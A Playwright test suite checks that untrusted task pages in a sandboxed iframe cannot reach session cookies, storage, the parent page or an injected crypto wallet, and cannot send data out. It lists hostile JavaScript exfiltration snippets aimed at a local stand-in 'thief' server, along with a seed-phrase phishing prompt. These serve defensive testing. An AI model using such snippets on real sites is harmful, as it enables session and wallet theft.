"""Hostile pages of requesters in a real browser: they reach no session, no wallet, no other page, and send nothing away."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import BrowserContext, Page

from tests.support.browser import until

WALLET = """
window.ethereum = { request: async (call) => { window.top.postMessage({ stolen: call.method }, "*"); return ["0xabc"]; } };
window.addEventListener("eip6963:requestProvider", () => window.dispatchEvent(new CustomEvent("eip6963:announceProvider",
  { detail: { info: { name: "Wallet" }, provider: window.ethereum } })));
"""
"""What an extension does to every window, frames included."""

MOUNT = """async (html) => {
  const { mountTask } = await import("/static/crowd/host.js");
  window.heard = [];
  window.addEventListener("message", ({ data }) => { if (data?.protocol !== "piecework-task/1") heard.push(data); });
  const place = document.body.appendChild(document.createElement("div"));
  await new Promise((done) => {
    window.task = mountTask(place, { html, onsubmit: (answer) => { window.answered = answer; }, onshown: done });
    setTimeout(done, 1000); // a page that goes away is never shown
  });
}"""


@pytest.fixture(scope="module")
def thief() -> Iterator[tuple[str, list[str]]]:
    """Another host, and what reached it."""
    visits: list[str] = []

    class Listener(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            visits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"<h1>stolen</h1>")

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            """Says nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", visits
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def work_page(context: BrowserContext, site: str) -> Page:
    """A work page with a session and a wallet."""
    context.add_init_script(WALLET)
    context.add_cookies([{"name": "session", "value": "secret", "url": site}])
    page = context.new_page()
    page.goto(f"{site}/gallery/html")
    page.evaluate("localStorage.setItem('session', 'secret')")
    return page


def run(page: Page, script: str) -> None:
    """Runs a script of the requester's in the frame to its end: what it did before is heard before."""
    page.evaluate(MOUNT, f"<p>Work</p><script>const say = (what) => parent.postMessage(what, '*');\n{script}\n;say('the end')</script>")
    until(page, "heard.includes('the end')")


def heard(page: Page, script: str, words: int = 1) -> object:
    """The same of a script that does say something, however slow the machine is."""
    run(page, script)
    until(page, f"heard.length > {words}")
    return page.evaluate("heard.filter((word) => word !== 'the end')")


ATTEMPTS = {
    "cookies": "try { say(document.cookie) } catch (e) { say(e.name) }",
    "storage": "try { say(localStorage.session) } catch (e) { say(e.name) }",
    "the page above": "try { say(parent.document.title) } catch (e) { say(e.name) }",
    "the page above's functions": "try { say(String(top.task)) } catch (e) { say(e.name) }",
    "databases": "try { indexedDB.open('x'); say('open') } catch (e) { say(e.name) }",
    "service workers": "try { say(String(navigator.serviceWorker.controller)) } catch (e) { say(e.name) }",
    "its own frame's attributes": "try { frameElement.removeAttribute('sandbox'); say('free') } catch (e) { say(frameElement === null ? 'SecurityError' : e.name) }",
}


@pytest.mark.parametrize("what", sorted(ATTEMPTS))
def test_a_page_cannot_reach(work_page: Page, what: str) -> None:
    said = heard(work_page, ATTEMPTS[what])
    assert said in (["SecurityError"], ["TypeError"]), f"{what}: {said}"


def test_the_origin_is_nobodys(work_page: Page) -> None:
    assert heard(work_page, "say(self.origin)") == ["null"]


def test_a_wallet_that_sits_in_every_frame_is_taken_out_before_the_page_runs(work_page: Page) -> None:
    said = heard(
        work_page,
        """say(typeof window.ethereum);
        window.addEventListener("eip6963:announceProvider", (event) => event.detail.provider.request({ method: "eth_requestAccounts" }));
        window.dispatchEvent(new Event("eip6963:requestProvider"));
        try { window.ethereum.request({ method: "eth_sendTransaction" }) } catch (e) { say(e.name) }""",
        words=2,
    )
    assert said == ["undefined", "TypeError"]
    assert work_page.evaluate("typeof window.ethereum") == "object", "the work page itself keeps its wallet"


@pytest.mark.parametrize(
    "script",
    [
        "try { top.location = '{thief}/top' } catch (e) {}",
        "try { parent.location.href = '{thief}/parent' } catch (e) {}",
        "const a = document.body.appendChild(document.createElement('a')); a.href = '{thief}/link'; a.target = '_top'; a.click()",
        "location = '{thief}/self'",
        "window.open('{thief}/popup')",
        "const a = document.body.appendChild(document.createElement('a')); a.href = '{thief}/blank'; a.target = '_blank'; a.click()",
        "fetch('{thief}/fetch', { mode: 'no-cors' }).catch(() => {})",
        "navigator.sendBeacon('{thief}/beacon', 'x')",
        "new Image().src = '{thief}/picture'",
        "const s = document.body.appendChild(document.createElement('script')); s.src = '{thief}/script.js'",
        "const i = document.body.appendChild(document.createElement('iframe')); i.src = '{thief}/frame'",
        "const f = document.body.appendChild(document.createElement('form')); f.action = '{thief}/form'; f.method = 'post'; f.submit()",
        "const m = document.head.appendChild(document.createElement('meta')); m.httpEquiv = 'refresh'; m.content = '0; url={thief}/refresh'",
        "try { new WebSocket('{thief}/socket'.replace('http', 'ws')) } catch (e) {}",
        "const l = document.head.appendChild(document.createElement('link')); l.rel = 'prefetch'; l.href = '{thief}/prefetch'",
    ],
)
def test_nothing_is_sent_navigated_or_opened(work_page: Page, thief: tuple[str, list[str]], script: str) -> None:
    address, visits = thief
    visits.clear()
    before = work_page.url
    with work_page.expect_console_message(lambda said: said.type == "error"):  # the browser says of each that it was stopped
        run(work_page, script.replace("{thief}", address))
    assert visits == [] and work_page.url == before and len(work_page.context.pages) == 1


def test_a_page_cannot_read_the_api_with_the_visitors_session(work_page: Page, site: str) -> None:
    assert heard(work_page, f"fetch('{site}/gallery', {{ credentials: 'include' }}).then((r) => say(r.status), (e) => say(e.name))") == ["TypeError"]


def test_no_dialog_covers_the_work_page(work_page: Page) -> None:
    dialogs: list[str] = []
    work_page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    run(work_page, "alert('Your seed phrase, please'); prompt('x'); confirm('x')")
    assert dialogs == []


def test_neither_frame_nor_gallery_can_be_framed_by_others(context: BrowserContext, site: str, thief: tuple[str, list[str]]) -> None:
    page = context.new_page()
    page.goto(thief[0])
    for path in ("/task-frame", "/gallery"):
        with page.expect_console_message(lambda said: "frame-ancestors" in said.text):
            page.evaluate("src => { const frame = document.body.appendChild(document.createElement('iframe')); frame.src = src; }", site + path)


def test_the_frame_opened_alone_is_as_locked_in(context: BrowserContext, site: str) -> None:
    page = context.new_page()
    page.goto(f"{site}/task-frame")
    assert page.evaluate("self.origin") == "null"


@pytest.mark.parametrize(
    "message",
    [
        "{ type: 'submit', answer: 'forged' }",
        "{ protocol: 'piecework-task/1', type: 'submit', answer: 'forged' }",
        "{ protocol: 'piecework-task/1', type: 'ready' }",
        "{ protocol: 'piecework-task/1', type: '__proto__' }",
    ],
)
def test_messages_outside_the_port_are_not_answers(work_page: Page, message: str) -> None:
    run(work_page, f"parent.postMessage({message}, '*')")
    assert work_page.evaluate("window.answered") is None


def test_a_form_of_the_old_kind_sends_its_fields_to_the_work_page_alone(work_page: Page, thief: tuple[str, list[str]]) -> None:
    address, visits = thief
    visits.clear()
    work_page.evaluate(MOUNT, f"<form action='{address}/externalSubmit'><input type=hidden name=assignmentId value=1><input name=q value=42><button>Send</button></form>")
    until(work_page, "task.frame.dataset.state === 'shown'")  # before that nobody hears the form
    work_page.frames[-1].click("button")
    until(work_page, "window.answered")
    assert work_page.evaluate("answered") == {"q": "42"} and visits == []
